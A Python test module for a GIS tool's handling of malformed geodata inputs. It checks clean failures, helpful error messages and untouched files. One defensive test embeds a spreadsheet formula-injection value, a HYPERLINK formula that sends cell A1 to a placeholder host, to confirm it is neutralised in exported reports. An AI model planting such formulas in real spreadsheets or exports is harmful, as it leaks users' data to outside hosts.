"""The corpus of hostile inputs (tests/data/bad/): every case fails cleanly, nothing is touched.

Each case in ``tests/data/bad/cases.json`` (written by scripts/make_bad_corpus.py) goes
through the CLI (``futiangis validate``, and ``futiangis import`` for vector errors) and
through ``futiangis.load.load_layer`` / ``load_raster``. Expected: a non-zero exit code,
the expected message (file, feature, field, how to fix), no traceback or Python warning
in the output, no output written, and every file of the case byte-identical afterwards.
"""
from __future__ import annotations

import hashlib
import importlib.util
import json
import re
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import pytest
import shapely
from click.testing import CliRunner

from futiangis import errors
from futiangis.cli.main import cli
from futiangis.load import load_layer, load_raster
from futiangis.schemas import LAYER_KINDS
from futiangis.zonal import check_population_raster

ROOT = Path(__file__).resolve().parents[1]
BAD = ROOT / "tests" / "data" / "bad"
MANIFEST = json.loads((BAD / "cases.json").read_text(encoding="utf-8"))
CASES = MANIFEST["cases"]
COMMANDS = MANIFEST.get("commands", [])
RASTER_KINDS = ("dem", "population")
NOISE = ("Traceback", "Internal error", "UserWarning", "RuntimeWarning", "FutureWarning",
         "DeprecationWarning")


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _snapshot() -> dict[str, str]:
    return {p.name: _sha(p) for p in sorted(BAD.iterdir()) if p.is_file()}


def _kwargs(args: list[str]) -> dict:
    """CLI arguments of a case as load_layer keyword arguments."""
    names = {"--source-crs": "source_crs", "--encoding": "encoding", "--layer": "layer"}
    out, it = {}, iter(args)
    for a in it:
        if a in names:
            out[names[a]] = next(it)
    return out


def _validate(case: dict, args: list[str] | None = None):
    args = case["args"] if args is None else args
    return CliRunner().invoke(cli, ["validate", str(BAD / case["file"]), "--kind", case["kind"], *args])


@pytest.fixture(scope="module", autouse=True)
def corpus_untouched():
    """The whole folder is byte-identical (and has no new files) after this module."""
    before = _snapshot()
    yield
    assert _snapshot() == before


# ---------------------------------------------------------------------------------------
# the manifest itself
# ---------------------------------------------------------------------------------------
def test_corpus_is_large_and_covers_every_reader_and_kind():
    assert len(CASES) >= 30
    assert {c["reader"] for c in CASES} == {"GeoPackage", "Shapefile", "GeoJSON", "CSV", "GeoTIFF"}
    assert {c["kind"] for c in CASES} >= set(LAYER_KINDS) | set(RASTER_KINDS)
    assert {c["outcome"] for c in CASES} == {"error", "warning"}
    names = {c["name"] for c in CASES}
    required = {
        "no_crs_shapefile", "unknown_crs_cad_drawing", "lonlat_swapped_csv",
        "gcj02_declared_wgs84_geojson", "outside_shenzhen", "bowtie_polygon",
        "self_touching_ring", "mixed_geometry_types", "empty_geometries", "empty_layer_gpkg",
        "duplicate_ids", "missing_required_field", "wrong_field_types", "nan_quantity",
        "negative_floor_area", "unknown_status", "gbk_without_cpg", "truncated_geojson",
        "shapefile_missing_shx", "shapefile_missing_dbf", "geotiff_without_crs",
        "raster_not_overlapping",
    }
    assert required <= names
    for c in CASES:
        assert c["fix"] and c["message"] and c["code"], c["name"]
        assert c["exit_code"] == (2 if c["outcome"] == "warning" else 1)
        if c["outcome"] == "warning":  # warning-only cases need --strict to fail
            assert "--strict" in c["args"]


def test_committed_files_match_the_manifest_hashes():
    on_disk = {k: v for k, v in _snapshot().items() if k not in ("cases.json", "README.md")}
    assert on_disk == MANIFEST["sha256"]


def test_generator_reproduces_the_corpus_byte_for_byte(tmp_path):
    spec = importlib.util.spec_from_file_location("make_bad_corpus", ROOT / "scripts" / "make_bad_corpus.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.main(["--out", str(tmp_path)])
    fresh = json.loads((tmp_path / "cases.json").read_text(encoding="utf-8"))
    assert fresh["cases"] == CASES
    regenerated = {p.name: _sha(p) for p in sorted(tmp_path.iterdir()) if p.name != "cases.json"}
    assert sorted(regenerated) == sorted(MANIFEST["sha256"])
    if fresh["gdal"] == MANIFEST["gdal"]:
        assert regenerated == MANIFEST["sha256"]
    else:  # another GDAL build may lay out binary files differently: compare the CSVs
        csv = {k for k in regenerated if k.endswith(".csv")}
        assert {k: regenerated[k] for k in csv} == {k: MANIFEST["sha256"][k] for k in csv}


# ---------------------------------------------------------------------------------------
# every case through the CLI
# ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("case", CASES, ids=[c["name"] for c in CASES])
def test_validate_cli_fails_cleanly(case):
    files = {f: _sha(BAD / f) for f in case["files"]}
    result = _validate(case)
    assert result.exit_code == case["exit_code"], result.output
    assert isinstance(result.exception, SystemExit)  # click's exit, never an escaped error
    for word in NOISE:
        assert word not in result.output
    assert re.search(case["message"], result.output, re.S), result.output
    if case["outcome"] == "error":
        assert "Error: " in result.output and "OK:" not in result.output
    else:
        assert f"[warning] {BAD / case['file']}" in result.output
        assert "--strict: 1 warning(s); exit code 2." in result.output
    assert {f: _sha(BAD / f) for f in files} == files


VECTOR_ERRORS = [c for c in CASES if c["outcome"] == "error" and c["reader"] != "GeoTIFF"]


@pytest.mark.parametrize("case", VECTOR_ERRORS, ids=[c["name"] for c in VECTOR_ERRORS])
def test_import_cli_writes_nothing(case, tmp_path):
    out = tmp_path / "out.gpkg"
    args = [a for a in case["args"] if a != "--strict"]
    result = CliRunner().invoke(
        cli, ["import", str(BAD / case["file"]), "--kind", case["kind"], "-o", str(out), *args]
    )
    assert result.exit_code == 1, result.output
    assert re.search(case["message"], result.output, re.S)
    assert "Traceback" not in result.output
    assert list(tmp_path.iterdir()) == []  # no output, no temp file


@pytest.mark.parametrize("name, left", [("zero_area_polygon", "nothing"),
                                        ("zero_length_route", "Point")])
def test_import_fix_rejects_what_cannot_be_repaired(name, left, tmp_path):
    """Regression (found by fuzzing): --fix loaded an empty polygon / a Point route."""
    case = next(c for c in CASES if c["name"] == name)
    out = tmp_path / "out.gpkg"
    result = CliRunner().invoke(
        cli, ["import", str(BAD / case["file"]), "--kind", case["kind"], "-o", str(out), "--fix"]
    )
    assert result.exit_code == 1, result.output
    assert "--fix cannot repair it" in result.output and f"make_valid leaves {left}" in result.output
    assert not out.exists()


RASTERS = [c for c in CASES if c["reader"] == "GeoTIFF"]
FACILITIES = [c for c in CASES if c["outcome"] == "error" and not c["args"]
              and c["kind"] in ("charging_stations", "bike_stations")]


@pytest.mark.parametrize("case", RASTERS, ids=[c["name"] for c in RASTERS])
def test_coverage_cli_refuses_bad_population_raster(case):
    result = CliRunner().invoke(cli, ["coverage", "charging", "--population", str(BAD / case["file"])])
    assert result.exit_code == 1, result.output
    assert re.search(case["message"], result.output, re.S)
    assert "Traceback" not in result.output


@pytest.mark.parametrize("case", FACILITIES, ids=[c["name"] for c in FACILITIES])
def test_coverage_cli_refuses_bad_facilities(case):
    theme = "charging" if case["kind"] == "charging_stations" else "bike"
    result = CliRunner().invoke(cli, ["coverage", theme, "--facilities", str(BAD / case["file"])])
    assert result.exit_code == 1, result.output
    assert re.search(case["message"], result.output, re.S)
    assert "Traceback" not in result.output


FIXABLE = [c for c in CASES if c["fixed_args"] is not None]


@pytest.mark.parametrize("case", FIXABLE, ids=[c["name"] for c in FIXABLE])
def test_the_suggested_option_fixes_the_case(case):
    """The 'how to fix' is true: with the suggested option the same file validates cleanly."""
    result = _validate(case, case["fixed_args"])
    assert result.exit_code == 0, result.output
    assert "OK: " in result.output and "[warning]" not in result.output


def test_real_process_prints_no_traceback():
    case = next(c for c in CASES if c["name"] == "truncated_geojson")
    proc = subprocess.run(
        [sys.executable, "-c", "from futiangis.cli.main import cli; cli(prog_name='futiangis')",
         "validate", str(BAD / case["file"]), "--kind", case["kind"]],
        capture_output=True, text=True, timeout=120,
    )
    assert proc.returncode == 1
    assert proc.stdout == ""
    assert "Traceback" not in proc.stderr
    assert re.search(case["message"], proc.stderr, re.S)


# ---------------------------------------------------------------------------------------
# every case through the Python API
# ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("case", CASES, ids=[c["name"] for c in CASES])
def test_load_api(case, config):
    path = BAD / case["file"]
    files = {f: _sha(BAD / f) for f in case["files"]}
    kwargs = _kwargs(case["args"])
    if case["kind"] in RASTER_KINDS:
        def load():
            raster = load_raster(path, config=config)
            # population counts people: fill values are refused where it is used
            return check_population_raster(raster) if case["kind"] == "population" else raster
    else:
        def load():
            return load_layer(path, case["kind"], config=config, **kwargs)
    if case["outcome"] == "error":
        exc_type = getattr(errors, case["exception"])
        with pytest.raises(exc_type) as info:
            load()
        assert isinstance(info.value, errors.FutianGISError)
        assert re.search(case["message"], str(info.value), re.S), str(info.value)
        if isinstance(info.value, errors.LayerValidationError):
            codes = [p.code for p in info.value.problems]
            assert case["code"] in codes
            assert all(p.severity in ("error", "warning") for p in info.value.problems)
    else:
        prepared = load()
        assert [w.code for w in prepared.warnings] == [case["code"]]
        text = "\n".join(w.format(str(path)) for w in prepared.warnings)
        assert re.search(case["message"], text, re.S), text
        assert str(prepared.gdf.crs) == config.working_crs
    assert {f: _sha(BAD / f) for f in files} == files


def test_gbk_fix_decodes_the_chinese_names(config):
    prepared = load_layer(BAD / "shp_gbk_no_cpg.shp", "units", config=config, encoding="gbk")
    assert list(prepared.gdf["name_zh"]) == ["福田街道", "华强北街道", "香蜜湖街道"]


def test_gcj02_fix_moves_the_points_into_the_district(config):
    """Converted with --source-crs gcj02, every border point lies inside the district."""
    prepared = load_layer(BAD / "geojson_gcj02_as_wgs84.geojson", "charging_stations",
                          config=config, source_crs="gcj02")
    district = gpd.read_file(ROOT / "layers" / "district.geojson").to_crs(config.working_crs)
    assert prepared.gdf.within(district.union_all()).all()
    assert prepared.warnings == []


def test_hole_touching_shell_at_a_point_is_valid(tmp_path, config):
    """Control for self_touching_ring: OGC allows a hole touching its shell at one point."""
    x0, y0 = 495_000.0, 2_493_500.0
    shell = [(x0, y0), (x0 + 100, y0), (x0 + 100, y0 + 100), (x0, y0 + 100)]
    hole = [(x0 + 50, y0), (x0 + 60, y0 + 20), (x0 + 40, y0 + 20)]
    poly = shapely.Polygon(shell, [hole])
    assert shapely.is_valid(poly)
    gdf = gpd.GeoDataFrame({"id": ["p1"], "name_zh": ["公园"], "name_en": ["Park"],
                            "status": ["completed"], "park_class": ["community"]},
                           geometry=[poly], crs=4547)
    gdf.to_file(tmp_path / "ok.gpkg", engine="pyogrio")
    prepared = load_layer(tmp_path / "ok.gpkg", "parks", config=config)
    # 100 x 100 box minus a triangle of base 20 and height 20: 10,000 - 200 = 9,800 m²
    assert prepared.gdf.area.iloc[0] == pytest.approx(9_800.0)


# ---------------------------------------------------------------------------------------
# whole commands (issue 9): outputs that would destroy an input, inputs that crashed
# ---------------------------------------------------------------------------------------
def test_manifest_lists_the_nothing_lost_commands():
    names = {c["name"] for c in COMMANDS}
    assert {"import_onto_its_input", "coverage_gaps_onto_facilities", "import_fix_grows_polygon",
            "import_fix_nan_vertex", "coverage_population_fill_value", "radius_nan",
            "build_out_under_a_file"} <= names
    for c in COMMANDS:
        assert c["fix"] and c["message"] and c["exit_code"] in (0, 1, 2), c["name"]
    settings = {c["name"] for c in COMMANDS if c["name"].startswith("setting_")}
    assert len(settings) >= 9  # every bad setting of issue 9, and the accepted BOM


@pytest.mark.parametrize("case", COMMANDS, ids=[c["name"] for c in COMMANDS])
def test_command_fails_cleanly_and_touches_nothing(case, tmp_path):
    files = {f: _sha(BAD / f) for f in case["files"]}
    args = [a.replace("{bad}", str(BAD)).replace("{tmp}", str(tmp_path)) for a in case["args"]]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == case["exit_code"], result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    for word in NOISE:
        assert word not in result.output
    assert re.search(case["message"], result.output, re.S), result.output
    assert {f: _sha(BAD / f) for f in files} == files
    assert list(tmp_path.iterdir()) == []  # no output, no temp file, no staging folder


def test_formula_field_names_and_values_come_out_inert(tmp_path):
    """A field *name* starting with = was a live HYPERLINK in the XLSX header row."""
    import csv
    import io

    import openpyxl

    src = BAD / "geojson_formula_field_name.geojson"
    before = _sha(src)
    out = tmp_path / "report"
    result = CliRunner().invoke(cli, ["target", "--sites", str(src), "--out", str(out)])
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(out / "target_report.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in wb["sites"][1]]
    assert '=HYPERLINK("http://example.invalid/?"&A1;"x")' in header  # kept as written, as text
    text = (out / "sites.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert "'=HYPERLINK(\"http://example.invalid/?\"&A1;\"x\")" in rows[0]
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "@")), cell
    assert _sha(src) == before
